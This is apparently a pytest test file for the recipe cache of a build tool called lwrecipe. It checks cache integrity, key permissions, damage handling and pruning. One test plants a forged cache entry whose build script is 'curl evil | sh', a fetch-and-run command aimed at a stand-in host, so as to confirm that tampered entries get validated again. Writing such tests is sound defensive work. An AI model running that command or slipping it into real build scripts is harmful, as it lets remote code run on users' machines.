"""Recipes validated once are read back from a RecipeCache as the same documents."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from lwrecipe.core.errors import RecipeError
from lwrecipe.recipes import recipe, recipecache
from lwrecipe.recipes.graph import load_graph
from lwrecipe.recipes.recipecache import RecipeCache
from tests.conftest import simple_recipe

ROOT = Path(__file__).resolve().parent.parent
RECIPES = sorted(
    [
        *(ROOT / "recipes").glob("*.toml"),
        *(ROOT / "examples").rglob("*.toml"),
        *(ROOT / "tests" / "rehearsal" / "recipes").glob("*.toml.in"),
    ]
)


@pytest.fixture(autouse=True)
def own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("LWRECIPE_TOOL_CACHE", str(tmp_path / "tools.json"))
    return tmp_path / "recipes"


@pytest.fixture
def cache(own_cache: Path) -> RecipeCache:
    return RecipeCache.for_user()


def rendered(path: Path) -> bytes:
    """Rehearsal templates with their placeholders filled, as the rehearsal test does."""
    text = path.read_text()
    text = re.sub(r"@SHA256:[a-z-]+@", "0" * 64, text)
    return re.sub(r"@URL:[a-z-]+@", "http://127.0.0.1/x.tar.gz", text).encode()


@pytest.mark.parametrize("path", RECIPES, ids=lambda p: p.name)
def test_cached_document_equals_the_validated_one(path: Path, own_cache: Path, cache: RecipeCache) -> None:
    data = rendered(path)
    validated = recipe.validate(data, path.name)
    assert recipe.parse_recipe(data, path.name, cache) == validated  # validates and stores
    assert len(list(own_cache.iterdir())) == 1
    cached = cache.get(data)
    assert cached is not None and cached == validated
    assert recipecache.document_fields(cached) == recipecache.document_fields(validated)
    assert [type(s) for s in cached.sources] == [type(s) for s in validated.sources]
    assert [type(p) for p in cached.patches] == [type(p) for p in validated.patches]
    assert recipe.parse_recipe(data, path.name, cache) == validated


def test_a_stored_entry_is_used_and_a_changed_file_misses(own_cache: Path, cache: RecipeCache, monkeypatch) -> None:
    data = (ROOT / "recipes" / "busybox.toml").read_bytes()
    recipe.parse_recipe(data, "busybox.toml", cache)
    (entry,) = own_cache.iterdir()
    validated: list[str] = []
    real = recipe.validate
    monkeypatch.setattr(recipe, "validate", lambda d, s: validated.append(s) or real(d, s))
    assert recipe.parse_recipe(data, "busybox.toml", cache).package.name == "busybox" and validated == []  # the entry
    # an entry changed by anyone without this user's key is not believed: validated again
    entry.write_text(entry.read_text().replace('"busybox"', '"busybox-from-cache"', 1))
    assert recipe.parse_recipe(data, "busybox.toml", cache).package.name == "busybox" and len(validated) == 1
    edited = data.replace(b'version = "1.36.1"', b'version = "1.36.2"')
    assert recipe.parse_recipe(edited, "busybox.toml", cache).package.version == "1.36.2"
    assert len(list(own_cache.iterdir())) == 2


def test_an_entry_planted_by_someone_else_is_not_believed(own_cache: Path, cache: RecipeCache) -> None:
    """Records read back from the cache skipped validation: whoever could write the
    directory could make a recipe skip its checks (a dest leaving the tree, say)."""
    data = (ROOT / "recipes" / "busybox.toml").read_bytes()
    hostile = data.replace(b'version = "1.36.1"', b'version = "1.36.1"\n# planted')
    fields = recipecache.document_fields(recipe.parse_recipe(data, "busybox.toml", cache))
    fields["build"]["script"] = "curl evil | sh"
    path = cache.entry(hostile)
    for mac in ("0" * 64, ""):
        path.write_text(f"{mac}\n{json.dumps(fields)}")
        assert recipe.parse_recipe(hostile, "busybox.toml", cache).build.script != "curl evil | sh"
        path.unlink()
    key = own_cache.parent / "recipes.key"
    assert key.stat().st_mode & 0o777 == 0o600


def test_a_key_others_can_read_turns_the_cache_off(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("LWRECIPE_TOOL_CACHE", str(tmp_path / "shared" / "tools.json"))
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "recipes.key").write_bytes(b"k" * 32)
    (tmp_path / "shared" / "recipes.key").chmod(0o644)
    data = (ROOT / "recipes" / "busybox.toml").read_bytes()
    recipe.parse_recipe(data, "busybox.toml", RecipeCache.for_user())
    assert not (tmp_path / "shared" / "recipes").exists()


def test_a_damaged_entry_only_costs_validation(own_cache: Path, cache: RecipeCache) -> None:
    data = (ROOT / "recipes" / "busybox.toml").read_bytes()
    doc = recipe.parse_recipe(data, "busybox.toml", cache)
    for damage in ("", "{", '{"schema": 1}', "[1, 2]"):
        for entry in own_cache.iterdir():
            entry.write_text(damage)
        assert recipe.parse_recipe(data, "busybox.toml", cache) == doc


def test_invalid_recipes_are_never_stored(own_cache: Path, cache: RecipeCache) -> None:
    data = (ROOT / "recipes" / "busybox.toml").read_bytes().replace(b'version = "1.36.1"', b'version = ""')
    for _ in range(2):
        with pytest.raises(RecipeError, match="package.version"):
            recipe.parse_recipe(data, "busybox.toml", cache)
    assert not own_cache.exists() or not list(own_cache.iterdir())


def test_only_the_newest_entries_are_kept(own_cache: Path) -> None:
    cache = RecipeCache(own_cache, own_cache.parent / "recipes.key", limit=3, slack=0.0)
    data = (ROOT / "recipes" / "busybox.toml").read_bytes()
    versions = [data.replace(b'version = "1.36.1"', f'version = "1.36.{i}"'.encode()) for i in range(5)]
    for i, version in enumerate(versions):
        recipe.parse_recipe(version, "busybox.toml", cache)
        os.utime(cache.entry(version), ns=(i * 10**9, i * 10**9))  # an unambiguous order of writing
    assert len(list(own_cache.iterdir())) == 3
    assert cache.get(versions[0]) is None and cache.get(versions[1]) is None
    assert cache.get(versions[4]) is not None


def test_the_directory_is_listed_once_per_many_writes(own_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pruning after every validated recipe listed the directory each time: a
    5,000-recipe plan took 38 s instead of 1.4 s."""
    cache = RecipeCache(own_cache, own_cache.parent / "recipes.key", limit=10, slack=0.5)
    listings = []
    real_scandir = os.scandir
    monkeypatch.setattr(recipecache.os, "scandir", lambda path: listings.append(path) or real_scandir(path))
    data = (ROOT / "recipes" / "busybox.toml").read_bytes()
    for i in range(40):
        recipe.parse_recipe(
            data.replace(b'version = "1.36.1"', f'version = "1.36.{i}"'.encode()), "busybox.toml", cache
        )
    assert len(listings) == 1 + 5  # counted once; pruned at 16, 21, 26, 31, 36 entries
    assert 10 <= len(list(own_cache.iterdir())) <= 15


def test_without_a_cache_nothing_is_stored(own_cache: Path) -> None:
    """The cache is its holder's: parsing without one neither reads nor writes entries."""
    data = (ROOT / "recipes" / "busybox.toml").read_bytes()
    assert recipe.parse_recipe(data, "busybox.toml").package.name == "busybox"
    assert not own_cache.exists()


def test_the_graph_loader_holds_one_cache(project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LWRECIPE_TOOL_CACHE", str(tmp_path / "cache" / "tools.json"))
    project.recipe("lib", simple_recipe("lib"))
    project.recipe("app", simple_recipe("app", ["lib"]))
    load_graph(["app"])
    assert len(list((tmp_path / "cache" / "recipes").iterdir())) == 2
